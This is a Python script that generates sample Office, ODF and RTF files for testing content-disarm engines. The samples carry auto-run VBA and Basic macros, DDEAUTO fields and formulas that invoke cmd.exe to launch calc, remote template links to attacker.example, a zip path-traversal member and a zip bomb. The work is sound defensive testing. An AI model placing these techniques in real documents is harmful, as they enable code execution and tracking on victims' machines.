#!/usr/bin/env python3
"""Builds the Office samples for the ooxml, odf and office CDR engines (see README.md here).

Python 3 standard library only; the output is byte-identical on every run (fixed time stamps,
fixed member order, no randomness). Run from anywhere: files are written beside this script.
"""
import hashlib
import os
import struct
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
STAMP = (2024, 1, 1, 0, 0, 0)

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PKG_RT = "http://schemas.openxmlformats.org/package/2006/relationships/"
MS_RT = "http://schemas.microsoft.com/office/2006/relationships/"

def make_png():
    """A valid 1x1 white PNG (signature, IHDR, IDAT, IEND with correct CRCs)."""
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data +
                struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) +
            chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff", 9)) + chunk(b"IEND", b""))


PNG = make_png()


def write_zip(name, members, flags=None):
    """members: list of (name, bytes or str); stored uncompressed when the name is 'mimetype'."""
    path = os.path.join(HERE, name)
    with zipfile.ZipFile(path, "w") as z:
        for member, data in members:
            if isinstance(data, str):
                data = data.encode("utf-8")
            info = zipfile.ZipInfo(member, STAMP)
            info.compress_type = zipfile.ZIP_STORED if member == "mimetype" else zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            info.create_system = 3
            z.writestr(info, data)
    if flags:
        # Set the "encrypted" bit on every member (local and central headers): the data is not
        # really encrypted, but every reader must refuse the member.
        raw = bytearray(open(path, "rb").read())
        for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            pos = raw.find(sig)
            while pos >= 0:
                raw[pos + off] |= flags
                pos = raw.find(sig, pos + 4)
        open(path, "wb").write(bytes(raw))


def write_file(name, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


# ---------------------------------------------------------------- OLE2 compound files (v3)

def ole2(entries):
    """entries: list of (path, bytes) for streams; storages are implied by the paths.
    Streams under 4096 bytes go to the mini stream, as the format requires."""
    SECT, MINI, CUTOFF = 512, 64, 4096
    FREE, END, FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    # Directory tree.
    nodes = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    index = {"": 0}
    for path, data in entries:
        parts = path.split("/")
        for i in range(1, len(parts)):
            sp = "/".join(parts[:i])
            if sp not in index:
                index[sp] = len(nodes)
                nodes.append({"name": parts[i - 1], "type": 1, "children": [], "data": b""})
                nodes[index["/".join(parts[:i - 1])]]["children"].append(index[sp])
        index[path] = len(nodes)
        nodes.append({"name": parts[-1], "type": 2, "children": [], "data": data})
        nodes[index["/".join(parts[:-1])]]["children"].append(index[path])
    # Mini stream.
    mini = bytearray()
    minifat = []
    for n in nodes:
        if n["type"] == 2 and len(n["data"]) < CUTOFF:
            count = max(1, (len(n["data"]) + MINI - 1) // MINI) if n["data"] else 0
            n["start"] = len(mini) // MINI if count else END
            for i in range(count):
                minifat.append(len(mini) // MINI + 1 if i < count - 1 else END)
                mini += n["data"][i * MINI:(i + 1) * MINI].ljust(MINI, b"\0")
    # Regular sectors: directory, minifat, mini stream, big streams.
    def nsect(size):
        return (size + SECT - 1) // SECT

    dir_bytes_len = ((len(nodes) + 3) // 4) * 512
    blobs = [("dir", dir_bytes_len), ("minifat", len(minifat) * 4), ("mini", len(mini))]
    for i, n in enumerate(nodes):
        if n["type"] == 2 and len(n["data"]) >= CUTOFF:
            blobs.append((i, len(n["data"])))
    data_sectors = sum(nsect(size) for _, size in blobs)
    fat_sectors = 1
    while (fat_sectors + data_sectors) > fat_sectors * (SECT // 4):
        fat_sectors += 1
    fat = [FATSECT] * fat_sectors
    starts = {}
    for key, size in blobs:
        count = nsect(size)
        starts[key] = len(fat) if count else END
        for i in range(count):
            fat.append(len(fat) + 1 if i < count - 1 else END)
    fat += [FREE] * (fat_sectors * (SECT // 4) - len(fat))
    nodes[0]["start"] = starts["mini"]
    nodes[0]["size"] = len(mini)
    for i, n in enumerate(nodes):
        if n["type"] == 2 and len(n["data"]) >= CUTOFF:
            n["start"] = starts[i]
    # Directory entries: children as a right-leaning chain sorted as the format compares names.
    def key(i):
        return (len(nodes[i]["name"]), nodes[i]["name"].upper())

    left = {}
    right = {}
    child = {}
    for i, n in enumerate(nodes):
        kids = sorted(n["children"], key=key)
        if kids:
            child[i] = kids[0]
            for a, b in zip(kids, kids[1:]):
                right[a] = b
    d = bytearray()
    for i, n in enumerate(nodes):
        name = n["name"].encode("utf-16-le") + b"\0\0"
        e = name.ljust(64, b"\0")
        e += struct.pack("<HBB", len(name), n["type"], 1)
        e += struct.pack("<III", left.get(i, FREE), right.get(i, FREE), child.get(i, FREE))
        e += b"\0" * 16 + b"\0" * 4 + b"\0" * 16
        size = len(n["data"]) if n["type"] == 2 else n.get("size", 0)
        start = n.get("start", END if n["type"] != 1 else 0)
        if n["type"] == 1:
            start = 0
        e += struct.pack("<II", start, size) + b"\0" * 4
        d += e
    while len(d) % 512:
        d += (b"\0" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", FREE, FREE, FREE)
              + b"\0" * 48)
    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, fat_sectors, starts["dir"], 0, CUTOFF,
                          starts["minifat"] if minifat else END, nsect(len(minifat) * 4), END, 0)
    difat = list(range(fat_sectors)) + [FREE] * (109 - fat_sectors)
    header += struct.pack("<109I", *difat)
    body = bytearray()
    body += struct.pack("<%dI" % len(fat), *fat)
    contents = {"dir": bytes(d), "minifat": struct.pack("<%dI" % len(minifat), *minifat),
                "mini": bytes(mini)}
    for i, n in enumerate(nodes):
        if n["type"] == 2 and len(n["data"]) >= CUTOFF:
            contents[i] = n["data"]
    for k, size in blobs:
        blob = contents[k]
        body += blob + b"\0" * (nsect(size) * SECT - len(blob))
    return bytes(header) + bytes(body)


def vba_project():
    """An OLE2 VBA project as Office stores it (content is filler: never run by anyone)."""
    return ole2([("VBA/dir", b"\x01" + b"Attribute VB_Name = \"ThisDocument\"" * 4),
                 ("VBA/ThisDocument", b"Sub AutoOpen()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n"),
                 ("VBA/_VBA_PROJECT", b"\xcc\x61\xff\xff\x00\x00\x00"),
                 ("PROJECT", b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\n"
                             b"Document=ThisDocument/&H00000000\r\n")])


def ole_object():
    return ole2([("\x01Ole10Native", struct.pack("<I", 12) + b"\x02\x00calc.exe\x00\x00"),
                 ("\x01CompObj", b"\x01\x00\xfe\xff" + b"\0" * 24)])


# ---------------------------------------------------------------- OOXML

def content_types(defaults, overrides):
    out = XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    for ext, ct in defaults:
        out += '<Default Extension="%s" ContentType="%s"/>' % (ext, ct)
    for part, ct in overrides:
        out += '<Override PartName="%s" ContentType="%s"/>' % (part, ct)
    return out + "</Types>"


def rels(items):
    out = XML + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    for rid, typ, target, *mode in items:
        out += '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
            rid, typ, target, ' TargetMode="External"' if mode else "")
    return out + "</Relationships>"


CORE = (XML + '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
        'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        '<dc:title>mugaika sample</dc:title></cp:coreProperties>')
CORE_CT = ("/docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml")
BASE_DEFAULTS = [("rels", "application/vnd.openxmlformats-package.relationships+xml"),
                 ("xml", "application/xml")]
ROOT_RELS = [("rId1", RT + "officeDocument", "word/document.xml"),
             ("rId2", PKG_RT + "metadata/core-properties", "docProps/core.xml")]
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_SETTINGS = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"


def para(text):
    return '<w:p><w:r><w:t xml:space="preserve">%s</w:t></w:r></w:p>' % text


def word_doc(body):
    return (XML + '<w:document %s %s xmlns:v="urn:schemas-microsoft-com:vml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>%s</w:body></w:document>'
            % (W, R, body))


def make_vba_template_docm():
    body = (para("This document carries a VBA project, an external template and a ribbon.") +
            '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>' +
            para("  two spaces kept  "))
    members = [
        ("[Content_Types].xml", content_types(
            BASE_DEFAULTS + [("bin", "application/vnd.ms-office.vbaProject")],
            [("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
             ("/word/settings.xml", WORD_SETTINGS),
             ("/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"), CORE_CT])),
        ("_rels/.rels", rels(ROOT_RELS + [
            ("rId3", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
             "customUI/customUI14.xml")])),
        ("word/document.xml", word_doc(body)),
        ("word/_rels/document.xml.rels", rels([
            ("rId1", MS_RT + "vbaProject", "vbaProject.bin"),
            ("rId2", RT + "settings", "settings.xml"),
            ("rId3", RT + "hyperlink", "https://example.com/login", "External")])),
        ("word/settings.xml", XML + '<w:settings %s %s><w:attachedTemplate r:id="rId1"/>'
                                    '</w:settings>' % (W, R)),
        ("word/_rels/settings.xml.rels", rels([
            ("rId1", RT + "attachedTemplate", "http://attacker.example/t.dotm", "External")])),
        ("word/vbaProject.bin", vba_project()),
        ("word/_rels/vbaProject.bin.rels", rels([
            ("rId1", MS_RT + "wordVbaData", "vbaData.xml")])),
        ("word/vbaData.xml", XML + '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/'
                                   'office/word/2006/wordml"><wne:mcds/></wne:vbaSuppData>'),
        ("customUI/customUI14.xml", XML + '<customUI xmlns="http://schemas.microsoft.com/office/'
                                          '2009/07/customui" onLoad="Ribbon_Load"/>'),
        ("docProps/core.xml", CORE),
    ]
    write_zip("vba_template.docm", members)
    return members


def make_dde_docx():
    body = (
        para("Fields below: three that run or fetch, and a page number.") +
        # A complex DDEAUTO field whose keyword is split across runs.
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc.exe"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>shown result</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        # A simple DDE field.
        '<w:p><w:fldSimple w:instr=" DDE excel &quot;C:\\\\x.xls&quot; R1C1">'
        '<w:r><w:t>simple result</w:t></w:r></w:fldSimple></w:p>'
        # A web beacon.
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://tracker.example/p.png" '
        '\\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        # Kept: a page number.
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    members = [
        ("[Content_Types].xml", content_types(BASE_DEFAULTS,
                                              [("/word/document.xml", WORD_MAIN), CORE_CT])),
        ("_rels/.rels", rels(ROOT_RELS)),
        ("word/document.xml", word_doc(body)),
        ("docProps/core.xml", CORE),
    ]
    write_zip("dde_fields.docx", members)
    return members


def make_clean_docx():
    members = [
        ("[Content_Types].xml", content_types(BASE_DEFAULTS + [("png", "image/png")],
                                              [("/word/document.xml", WORD_MAIN), CORE_CT])),
        ("_rels/.rels", rels(ROOT_RELS)),
        ("word/document.xml", word_doc(para("A plain document: nothing to remove.") +
                                       para("日本語の段落も残ります。"))),
        ("word/_rels/document.xml.rels", rels([("rId1", RT + "image", "media/image1.png")])),
        ("word/media/image1.png", PNG),
        ("docProps/core.xml", CORE),
    ]
    write_zip("clean.docx", members)
    return members


def make_ole_activex_docx():
    body = (
        para("An embedded OLE object (its preview stays) and an ActiveX control:") +
        '<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440">'
        '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:72pt;height:72pt" o:ole="">'
        '<v:imagedata r:id="rId2" o:title=""/></v:shape>'
        '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" '
        'DrawAspect="Icon" ObjectID="_1700000000" r:id="rId3"/></w:object></w:r></w:p>'
        '<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="360">'
        '<v:shape id="_x0000_i1026" type="#_x0000_t75" style="width:72pt;height:18pt">'
        '<v:imagedata r:id="rId5" o:title=""/></v:shape>'
        '<w:control r:id="rId4" w:name="CommandButton1" w:shapeid="_x0000_i1026"/>'
        '</w:object></w:r></w:p>')
    members = [
        ("[Content_Types].xml", content_types(
            BASE_DEFAULTS + [("png", "image/png"),
                             ("bin", "application/vnd.openxmlformats-officedocument.oleObject")],
            [("/word/document.xml", WORD_MAIN),
             ("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"),
             ("/word/activeX/activeX1.bin", "application/vnd.ms-office.activeX"), CORE_CT])),
        ("_rels/.rels", rels(ROOT_RELS)),
        ("word/document.xml", word_doc(body)),
        ("word/_rels/document.xml.rels", rels([
            ("rId2", RT + "image", "media/image1.png"),
            ("rId3", RT + "oleObject", "embeddings/oleObject1.bin"),
            ("rId4", RT + "control", "activeX/activeX1.xml"),
            ("rId5", RT + "image", "media/image2.png")])),
        ("word/media/image1.png", PNG),
        ("word/media/image2.png", PNG),
        ("word/embeddings/oleObject1.bin", ole_object()),
        ("word/activeX/activeX1.xml",
         XML + '<ax:ocx ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" '
               'ax:persistence="persistStorage" r:id="rId1" '
               'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" %s/>' % R),
        ("word/activeX/_rels/activeX1.xml.rels", rels([
            ("rId1", MS_RT + "activeXControlBinary", "activeX1.bin")])),
        ("word/activeX/activeX1.bin", ole2([("contents", b"\0" * 40)])),
        ("docProps/core.xml", CORE),
    ]
    write_zip("ole_activex.docx", members)
    return members


def make_external_link_xlsx(name="external_link_dde.xlsx", bomb=0):
    S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    X = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    workbook = (XML + '<workbook %s %s><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
                '</sheets><externalReferences><externalReference r:id="rId2"/>'
                '<externalReference r:id="rId3"/></externalReferences>'
                '<definedNames><definedName name="Remote">[1]Budget!$A$1</definedName>'
                '<definedName name="Local">Sheet1!$A$3</definedName></definedNames></workbook>'
                % (S, R))
    filler = " " * bomb
    sheet = (XML + '<worksheet %s %s><sheetData>'
             '<row r="1"><c r="A1"><f>[1]Budget!$A$1</f><v>42</v></c></row>'
             '<row r="2"><c r="A2"><f>cmd|\' /c calc\'!A0</f><v>0</v></c></row>'
             '<row r="3"><c r="A3"><f>SUM(1,2)</f><v>3</v></c>'
             '<c r="B3" t="inlineStr"><is><t>pipe in a string "|" is fine</t></is></c></row>'
             '</sheetData><hyperlinks><hyperlink ref="A3" r:id="rId1"/></hyperlinks>'
             '<pageSetup orientation="portrait" r:id="rId2"/>%s</worksheet>' % (S, R, filler))
    members = [
        ("[Content_Types].xml", content_types(
            BASE_DEFAULTS + [("bin", X + "printerSettings")],
            [("/xl/workbook.xml", X + "sheet.main+xml"),
             ("/xl/worksheets/sheet1.xml", X + "worksheet+xml"),
             ("/xl/externalLinks/externalLink1.xml", X + "externalLink+xml"),
             ("/xl/externalLinks/externalLink2.xml", X + "externalLink+xml"), CORE_CT])),
        ("_rels/.rels", rels([("rId1", RT + "officeDocument", "xl/workbook.xml"),
                              ("rId2", PKG_RT + "metadata/core-properties",
                               "docProps/core.xml")])),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", rels([
            ("rId1", RT + "worksheet", "worksheets/sheet1.xml"),
            ("rId2", RT + "externalLink", "externalLinks/externalLink1.xml"),
            ("rId3", RT + "externalLink", "externalLinks/externalLink2.xml")])),
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/worksheets/_rels/sheet1.xml.rels", rels([
            ("rId1", RT + "hyperlink", "https://example.com/report", "External"),
            ("rId2", RT + "printerSettings", "../printerSettings/printerSettings1.bin")])),
        ("xl/printerSettings/printerSettings1.bin", b"\x00DEVMODE" + b"\x01" * 120),
        ("xl/externalLinks/externalLink1.xml",
         XML + '<externalLink %s %s><externalBook r:id="rId1"><sheetNames>'
               '<sheetName val="Budget"/></sheetNames></externalBook></externalLink>' % (S, R)),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", rels([
            ("rId1", RT + "externalLinkPath", "file:///\\\\server\\share\\budget.xlsx",
             "External")])),
        ("xl/externalLinks/externalLink2.xml",
         XML + '<externalLink %s><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems>'
               '<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>' % S),
        ("docProps/core.xml", CORE),
    ]
    write_zip(name, members)
    return members


def make_pptm():
    P = ('xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
         'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"')
    PT = "application/vnd.openxmlformats-officedocument.presentationml."
    slide = (XML + '<p:sld %s %s><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/>'
             '<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
             '<p:sp><p:nvSpPr><p:cNvPr id="2" name="Link"><a:hlinkClick r:id="rId1"/></p:cNvPr>'
             '<p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>'
             'Click me</a:t></a:r></a:p></p:txBody></p:sp>'
             '<p:sp><p:nvSpPr><p:cNvPr id="3" name="Macro">'
             '<a:hlinkClick r:id="" action="ppaction://macro?name=Module1.Run"/></p:cNvPr>'
             '<p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>'
             '</p:spTree></p:cSld></p:sld>' % (P, R))
    members = [
        ("[Content_Types].xml", content_types(
            BASE_DEFAULTS + [("bin", "application/vnd.ms-office.vbaProject")],
            [("/ppt/presentation.xml",
              "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
             ("/ppt/slides/slide1.xml", PT + "slide+xml"), CORE_CT])),
        ("_rels/.rels", rels([("rId1", RT + "officeDocument", "ppt/presentation.xml"),
                              ("rId2", PKG_RT + "metadata/core-properties",
                               "docProps/core.xml")])),
        ("ppt/presentation.xml", XML + '<p:presentation %s %s><p:sldIdLst>'
                                       '<p:sldId id="256" r:id="rId2"/></p:sldIdLst>'
                                       '</p:presentation>' % (P, R)),
        ("ppt/_rels/presentation.xml.rels", rels([
            ("rId1", MS_RT + "vbaProject", "vbaProject.bin"),
            ("rId2", RT + "slide", "slides/slide1.xml")])),
        ("ppt/slides/slide1.xml", slide),
        ("ppt/slides/_rels/slide1.xml.rels", rels([
            ("rId1", RT + "hyperlink", "http://example.org/slides", "External")])),
        ("ppt/vbaProject.bin", vba_project()),
        ("docProps/core.xml", CORE),
    ]
    write_zip("macro.pptm", members)


def make_broken(dde_members):
    # Password-protected OOXML: an OLE2 file with EncryptionInfo and EncryptedPackage.
    write_file("encrypted.docx", ole2([("EncryptionInfo", b"\x04\x00\x04\x00\x40\x00\x00\x00" +
                                        b"<encryption/>"),
                                       ("EncryptedPackage", struct.pack("<Q", 5000) +
                                        bytes(range(256)) * 20)]))
    # A zip whose members claim traditional PKWARE encryption.
    write_zip("zip_encrypted.docx", dde_members, flags=0x01)
    # Cut in the middle.
    whole = open(os.path.join(HERE, "dde_fields.docx"), "rb").read()
    write_file("truncated.docx", whole[:len(whole) * 6 // 10])
    # Noise.
    noise = b""
    seed = b"mugaika"
    while len(noise) < 4096:
        seed = hashlib.sha256(seed).digest()
        noise += seed
    write_file("garbage.docx", noise)
    # A member that climbs out of the extraction folder.
    write_zip("traversal.docx", dde_members + [("../../evil.sh", "#!/bin/sh\necho owned\n")])
    # 30 MB of blanks inside one part: a few dozen KB packed.
    make_external_link_xlsx("bomb.xlsx", bomb=30 * 1024 * 1024)


# ---------------------------------------------------------------- ODF

ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink" '
          'xmlns:dc="http://purl.org/dc/elements/1.1/"')
ODF_XML = '<?xml version="1.0" encoding="UTF-8"?>\n'


def manifest(mimetype, entries):
    out = (ODF_XML + '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:'
           'manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" '
           'manifest:version="1.3" manifest:media-type="%s"/>' % mimetype)
    for path, media in entries:
        out += ('<manifest:file-entry manifest:full-path="%s" manifest:media-type="%s"/>'
                % (path, media))
    return out + "</manifest:manifest>"


def odf_doc(root, body, scripts=""):
    return (ODF_XML + '<office:%s %s office:version="1.3">%s<office:body>%s</office:body>'
            '</office:%s>' % (root, ODF_NS, scripts, body, root))


def make_basic_odt():
    mt = "application/vnd.oasis.opendocument.text"
    scripts = ('<office:scripts><office:event-listeners><script:event-listener '
               'script:language="ooo:script" script:event-name="dom:load" '
               'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;'
               'location=document" xlink:type="simple"/></office:event-listeners>'
               '</office:scripts>')
    body = ('<office:text><text:p>This document runs a Basic macro when opened.</text:p>'
            '<text:p>Visit <text:a xlink:type="simple" xlink:href="https://example.com/odf">'
            'our site</text:a> or <text:a xlink:type="simple" xlink:href="vnd.sun.star.script:'
            'Standard.Module1.Main?language=Basic&amp;location=document">run this</text:a>.'
            '</text:p><text:p><draw:frame draw:name="Object1" svg:width="2cm" svg:height="2cm">'
            '<draw:object xlink:href="./Object 1" xlink:type="simple" xlink:show="embed" '
            'xlink:actuate="onLoad"/><draw:image xlink:href="./ObjectReplacements/Object 1" '
            'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
            '</text:p><text:p>  spaces  </text:p></office:text>')
    module = (ODF_XML + '<!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument '
              '1.0//EN" "module.dtd">\n<script:module xmlns:script="http://openoffice.org/2000/'
              'script" script:name="Module1" script:language="StarBasic">Sub Main\n  Shell '
              '"calc"\nEnd Sub\n</script:module>')
    members = [
        ("mimetype", mt),
        ("META-INF/manifest.xml", manifest(mt, [
            ("content.xml", "text/xml"), ("styles.xml", "text/xml"), ("meta.xml", "text/xml"),
            ("Basic/Standard/Module1.xml", "text/xml"),
            ("Basic/Standard/script-lb.xml", "text/xml"), ("Basic/script-lc.xml", "text/xml"),
            ("Object 1/content.xml", "text/xml"),
            ("Object 1/", "application/vnd.oasis.opendocument.spreadsheet"),
            ("ObjectReplacements/Object 1", "application/x-openoffice-gdimetafile;windows_formatname=&quot;GDIMetaFile&quot;"),
            ("Pictures/", "")])),
        ("content.xml", odf_doc("document-content", body, scripts)),
        ("styles.xml", ODF_XML + '<office:document-styles %s office:version="1.3"/>' % ODF_NS),
        ("meta.xml", ODF_XML + '<office:document-meta %s office:version="1.3"><office:meta>'
                               '<meta:template xlink:type="simple" xlink:actuate="onRequest" '
                               'xlink:href="http://attacker.example/t.ott" xlink:title="t"/>'
                               '<dc:title>mugaika sample</dc:title></office:meta>'
                               '</office:document-meta>' % ODF_NS),
        ("Basic/Standard/Module1.xml", module),
        ("Basic/Standard/script-lb.xml", ODF_XML + '<library:library xmlns:library="http://'
                                                   'openoffice.org/2000/library" library:name='
                                                   '"Standard"><library:element library:name='
                                                   '"Module1"/></library:library>'),
        ("Basic/script-lc.xml", ODF_XML + '<library:libraries xmlns:library="http://'
                                          'openoffice.org/2000/library"><library:library '
                                          'library:name="Standard" library:link="false"/>'
                                          '</library:libraries>'),
        ("Object 1/content.xml", odf_doc("document-content", "<office:spreadsheet/>")),
        ("ObjectReplacements/Object 1", b"VCLMTF" + b"\0" * 58),
    ]
    write_zip("basic_macro.odt", members)
    whole = open(os.path.join(HERE, "basic_macro.odt"), "rb").read()
    write_file("truncated.odt", whole[:len(whole) // 2])


def make_dde_ods():
    mt = "application/vnd.oasis.opendocument.spreadsheet"
    body = ('<office:spreadsheet><table:dde-links><table:dde-link><office:dde-source '
            'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="A0" '
            'office:conversion-mode="into-default-style-data-style"/><table:table/>'
            '</table:dde-link></table:dde-links><table:table table:name="Sheet1">'
            '<table:table-column/><table:table-row><table:table-cell office:value-type="string">'
            '<text:p>kept text</text:p></table:table-cell></table:table-row>'
            '<table:table-source table:mode="copy-all" xlink:type="simple" '
            'xlink:href="file:///server/share/book.ods" table:table-name="Sheet1"/>'
            '</table:table></office:spreadsheet>')
    members = [
        ("mimetype", mt),
        ("META-INF/manifest.xml", manifest(mt, [("content.xml", "text/xml")])),
        ("content.xml", odf_doc("document-content", body)),
    ]
    write_zip("dde_link.ods", members)


# ---------------------------------------------------------------- legacy

def word_stream(encrypted=False):
    flags = 0x0100 if encrypted else 0
    fib = struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0x0411, 0, flags)
    return fib.ljust(4096, b"\0")


def make_legacy():
    write_file("macro.doc", ole2([
        ("WordDocument", word_stream()),
        ("1Table", b"\0" * 512),
        ("Macros/VBA/dir", b"\x01" + b"\0" * 100),
        ("Macros/VBA/ThisDocument", b"Sub AutoOpen()\r\nEnd Sub\r\n"),
        ("Macros/PROJECT", b"ID=\"{00000000-0000-0000-0000-000000000000}\"\r\n"),
        ("ObjectPool/_1700000000/\x01Ole10Native", b"\x0c\0\0\0\x02\0calc.exe\0\0"),
        ("ObjectPool/_1700000000/\x01CompObj", b"\x01\0\xfe\xff" + b"\0" * 24),
    ]))
    write_file("encrypted.doc", ole2([("WordDocument", word_stream(encrypted=True)),
                                      ("1Table", b"\0" * 512)]))
    # BIFF8 globals: BOF, two BOUNDSHEETs (a worksheet and an Excel 4.0 macro sheet), EOF.
    def rec(t, data):
        return struct.pack("<HH", t, len(data)) + data

    def boundsheet(name, dt):
        return rec(0x0085, struct.pack("<IBBBB", 0, 0, dt, len(name), 0) + name.encode())

    wb = (rec(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 0, 0, 0)) +
          boundsheet("Sheet1", 0) + boundsheet("Macro1", 1) + rec(0x000A, b""))
    write_file("xlm_macro.xls", ole2([("Workbook", wb.ljust(4096, b"\0"))]))
    write_file("objdata.rtf",
               "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\f0\\fs24 An embedded object "
               "and a DDE field.\\par\n{\\object\\objemb{\\*\\objclass Package}\\objw1440"
               "\\objh1440{\\*\\objdata 01050000020000000800000050616b6167650000000000000000"
               "00}}\\par\n{\\field{\\*\\fldinst {DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
               "\"/c calc\"}}{\\fldrslt x}}\\par\n}\n")
    write_file("plain.rtf", "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}\\f0\\fs24 "
                            "Hello from the mugaika samples.\\par\n}\n")


def main():
    make_vba_template_docm()
    dde = make_dde_docx()
    make_clean_docx()
    make_ole_activex_docx()
    make_external_link_xlsx()
    make_pptm()
    make_broken(dde)
    make_basic_odt()
    make_dde_ods()
    make_legacy()


if __name__ == "__main__":
    main()
